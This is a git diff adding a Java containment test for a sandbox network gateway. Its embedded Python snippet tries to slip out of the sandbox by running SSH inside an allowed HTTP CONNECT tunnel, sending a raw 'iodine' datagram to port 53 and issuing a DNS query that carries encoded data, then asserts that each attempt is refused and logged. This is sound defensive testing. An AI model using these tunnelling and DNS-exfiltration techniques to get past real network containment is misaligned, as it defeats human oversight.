@@ -1,6 +1,7 @@
 package dev.ale.gateway;
 
 import dev.ale.core.net.ConnectionRecord;
+import dev.ale.core.net.DatagramRecord;
 import dev.ale.core.net.DnsRecord;
 import dev.ale.core.net.NetworkRecord;
 import dev.ale.core.net.ProxyRecord;
@@ -343,6 +344,56 @@ class GatewayContainmentTest {
                 .anySatisfy(rec -> assertThat(((ProxyRecord) rec).refusal()).contains("not allowlisted"));
         Drops drops = gateway.drops(s.id()).orElseThrow();
         System.out.println("drops counted for " + s.id() + ": " + drops);
+    }
+
+    @Test
+    void whatHidesInsideAnAllowedTunnelOrInPort53IsRecordedAsWhatItIs() {
+        Sandbox s = sandbox();
+
+        ExecResult r = s.exec(ExecRequest.of("/usr/bin/python3", "-c", """
+                import socket, time
+                tunnel = socket.create_connection(("198.18.0.1", 3128), timeout=20)
+                tunnel.sendall(b"CONNECT allowed.test:8080 HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\n")
+                head = b""
+                while not head.endswith(b"\\r\\n\\r\\n"):
+                    head += tunnel.recv(1)
+                tunnel.sendall(b"SSH-2.0-OpenSSH_9.6\\r\\n")
+                back = b""
+                try:
+                    while True:
+                        data = tunnel.recv(4096)
+                        if not data:
+                            break
+                        back += data
+                except OSError:
+                    pass
+                print("tunnel", head.split(b"\\r\\n")[0].decode(), "then", len(back), "bytes")
+                raw = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+                raw.sendto(b"\\x00\\x10iodine-raw-mode", ("203.0.113.1", 53))
+                raw.close()
+                query = bytes([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 6]) + b"c2VjcmV" [:6] + bytes([7]) + b"example" + bytes([0, 0, 16, 0, 1])
+                tcp = socket.create_connection(("203.0.113.1", 53), timeout=10)
+                tcp.sendall(len(query).to_bytes(2, "big") + query)
+                time.sleep(0.5)
+                tcp.close()
+                """).withTimeout(Duration.ofSeconds(60)));
+
+        assertThat(r.stdout()).as(r.toString()).contains("tunnel HTTP/1.1 200 Connection established then 0 bytes");
+        ProxyRecord tunnel = await().atMost(Duration.ofSeconds(20)).until(() -> records.stream()
+                .filter(rec -> rec instanceof ProxyRecord p && p.sandbox().equals(s.id()) && p.refusal().isPresent())
+                .map(ProxyRecord.class::cast).findFirst(), java.util.Optional::isPresent).orElseThrow();
+        assertThat(tunnel.refusal()).hasValueSatisfying(reason -> assertThat(reason).startsWith("tunnel carried ssh"));
+        assertThat(tunnel.upstreamAddress()).contains(OUTSIDE_ADDRESS);
+        DatagramRecord raw = await().atMost(Duration.ofSeconds(20)).until(() -> records.stream()
+                .filter(rec -> rec instanceof DatagramRecord d && d.sandbox().equals(s.id()))
+                .map(DatagramRecord.class::cast).findFirst(), java.util.Optional::isPresent).orElseThrow();
+        assertThat(raw.destinationAddress() + ":" + raw.destinationPort()).isEqualTo(OUTSIDE_ADDRESS + ":53");
+        ConnectionRecord dns = awaitConnection(s.id(), OUTSIDE_ADDRESS, 53);
+        assertThat(dns.protocol()).isEqualTo("dns");
+        assertThat(dns.name()).contains("c2vjcm.example");
+        sleep(Duration.ofMillis(500));
+        assertThat(outsideCounter("from_sandboxes")).isZero();
+        assertThat(outsideCounter("from_anyone_but_the_gateway")).isZero();
     }
 
     @Test
